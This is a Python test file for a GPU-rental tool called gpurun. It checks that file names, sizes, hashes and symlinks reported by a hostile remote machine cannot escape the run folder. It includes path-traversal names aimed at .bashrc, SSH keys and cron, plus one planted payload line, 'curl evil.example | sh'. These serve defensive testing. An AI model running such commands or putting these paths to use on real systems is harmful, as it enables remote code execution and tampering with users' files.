"""A rented machine is a stranger's computer: what it reports (file names in events and listings, sizes, hashes)
can never make gpurun write outside the run's folder, read a link, or fill the disk."""

from __future__ import annotations

import hashlib
import io
import os
from pathlib import Path

import pytest

from gpurun.cli.live import JsonView
from gpurun.errors import SyncError, UntrustedReportError
from gpurun.events import LogLine, Step, parse_line
from gpurun.job import untrusted
from gpurun.job.context import RunContext
from gpurun.job.follow import fetch
from gpurun.job.machine import BoxLayout
from gpurun.job.options import JobOptions
from gpurun.job.record import RunRecord
from gpurun.journal import Journal
from gpurun.pricing.serial import estimate_from_dict
from gpurun.remote.local_transport import LocalTransport
from gpurun.remote.sync import fetch_verified
from tests.support.remote_helpers import ssh_session, transport_fixture  # noqa: F401  (the fixture)

GOOD = ["lora.safetensors", "lora-000001.safetensors", "my lora (v2)-step00000040.safetensors", "grid.png",
        "samples/epoch-2.png"]  # fmt: skip
HOSTILE = [
    "../../.bashrc", "/home/user/.ssh/authorized_keys.png", "../x.safetensors", "a/../../b.png", ".bashrc",
    "x/.hidden.png", "a\\..\\b.png", "run.sh", "lora.safetensors.sh", "lora\x1b[2J.png", "lora\n.png", "",
    "a/b/c/d.png", "x" * 300 + ".png", "./lora.safetensors", "out//lora.png", "lora.png/", "con\x00.png",
]  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_the_runners_own_file_names_are_accepted(name: str) -> None:
    assert untrusted.artifact_name(name) == name


@pytest.mark.parametrize("name", [*HOSTILE, None, 42, ["lora.png"]])
def test_a_name_that_could_leave_the_run_folder_is_refused(name: object) -> None:
    with pytest.raises(UntrustedReportError, match="gpurun will not write"):
        untrusted.artifact_name(name)


@pytest.mark.parametrize("size", [-1, 2**40, 1.5, "12", True, None])
def test_impossible_sizes_and_malformed_hashes_are_refused(size: object) -> None:
    with pytest.raises(UntrustedReportError):
        untrusted.artifact_size(size)
    with pytest.raises(UntrustedReportError):
        untrusted.sha256_hex("not-a-hash")


def test_a_link_planted_in_the_run_folder_cannot_redirect_a_write(tmp_path: Path) -> None:
    out = tmp_path / "run"
    out.mkdir()
    (out / "samples").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(UntrustedReportError, match="outside"):
        untrusted.inside(out, "samples/grid.png")
    assert untrusted.inside(out, "grid.png") == (out / "grid.png").resolve()


@pytest.fixture
def box_run(tmp_path: Path):
    """A run whose "machine" is a folder here (LocalTransport), recorded in a journal, ready to fetch."""
    box = tmp_path / "box"
    layout = BoxLayout(root=str(box / "gpurun" / "r1"), home=str(box / ".gpurun"))
    Path(layout.out).mkdir(parents=True)
    journal = Journal.open(tmp_path / "journal.sqlite3")
    journal.record_intent(
        "r1", provider="local", offer_id="local", gpu="cpu", quoted_price=0.0, budget=None, workload={},
        estimate={}, output_dir=tmp_path / "laptop" / "runs" / "r1", config_toml="", label="gpurun-r1",
    )  # fmt: skip
    estimate = estimate_from_dict({"provider": "local", "offer_id": "local"})
    record = RunRecord(run_id="r1", output_dir=tmp_path / "laptop" / "runs" / "r1", estimate=estimate)
    control = RunContext(record, JsonView(stream=io.StringIO()), journal, JobOptions())
    control.transport, control.layout = LocalTransport(box), layout
    yield control, Path(layout.out), tmp_path / "laptop"
    journal.close()


def _plant(box_out: Path, relative: str, data: bytes) -> tuple[str, int]:
    """What a malicious box does: put a file where its name points, and report its true sha256 and size."""
    target = box_out / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    return hashlib.sha256(data).hexdigest(), len(data)


@pytest.mark.parametrize("name", ["../../.bashrc", "../../../laptop/.bashrc", "../../laptop/runs/evil.png"])
async def test_an_event_naming_a_path_outside_the_run_writes_nothing_there(box_run, name: str) -> None:
    """The audit's High finding: the box reported `../../.bashrc` with its real sha256 and gpurun wrote it."""
    control, box_out, laptop = box_run
    digest, size = _plant(box_out, name, b"curl evil.example | sh\n")
    with pytest.raises(UntrustedReportError):
        await fetch(control, name, digest, size)
    written = [p for p in laptop.rglob("*") if p.is_file()] if laptop.exists() else []
    assert written == [] and not (laptop / ".bashrc").exists()


async def test_a_listing_with_a_hostile_name_fails_the_fetch_and_the_good_files_stay_inside(box_run) -> None:
    control, box_out, laptop = box_run
    _plant(box_out, "lora.safetensors", b"weights")
    digest, size = _plant(box_out, "lora-000001.safetensors", b"epoch one")
    await fetch(control, "lora-000001.safetensors", digest, size)
    assert (Path(control.out_dir) / "lora-000001.safetensors").read_bytes() == b"epoch one"
    with pytest.raises(UntrustedReportError):
        await fetch(control, "/etc/cron.d/evil.png", digest, size)
    assert sorted(p.name for p in laptop.rglob("*") if p.is_file()) == ["lora-000001.safetensors"]


async def test_a_file_bigger_than_allowed_is_not_fetched(transport, tmp_path: Path) -> None:
    """A host may claim 1 MB and serve 10 GB: the download stops at the bound and nothing is left behind."""
    remote = tmp_path / "remote" / "big.safetensors"
    remote.parent.mkdir(parents=True)
    remote.write_bytes(os.urandom(4096))
    target = tmp_path / "here" / "big.safetensors"
    digest = hashlib.sha256(remote.read_bytes()).hexdigest()
    with pytest.raises(SyncError, match=r"over 1000|grew past 1000"):
        await fetch_verified(transport, str(remote), target, digest, max_bytes=1000)
    assert not target.exists() and list(target.parent.iterdir()) == []


@pytest.mark.sshd
async def test_a_link_on_the_box_is_not_followed_by_the_download(sshd_server, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the box owner wants you to fetch this")
    link = tmp_path / "remote" / "lora.safetensors"
    link.parent.mkdir(parents=True)
    link.symlink_to(secret)
    session = await ssh_session(sshd_server, "no-links")
    try:
        with pytest.raises(SyncError, match="not a regular file"):
            await session.get_file(str(link), tmp_path / "got.safetensors")
    finally:
        await session.close()
    assert not (tmp_path / "got.safetensors").exists()


@pytest.mark.parametrize(
    "line",
    [
        '{"type": "step", "step": "7", "total_steps": 10}',
        '{"type": "step", "step": 7, "eta_s": Infinity}',
        '{"type": "step", "step": 7, "samples_per_s": NaN}',
        '{"type": "checkpoint", "path": ["lora.safetensors"], "sha256": "x", "bytes": 1}',
        '{"type": "done", "steps": true}',
        '{"type": "start", "notes": [{"a": 1}]}',
        '{"type": "step", "t": "yesterday"}',
    ],
)
def test_an_event_with_fields_of_the_wrong_type_is_shown_never_acted_on(line: str) -> None:
    assert isinstance(parse_line(line), LogLine)


def test_a_diverged_loss_is_still_an_event_the_user_sees() -> None:
    step = parse_line('{"type": "step", "step": 3, "total_steps": 9, "loss": NaN}')
    assert isinstance(step, Step) and step.step == 3 and step.loss != step.loss
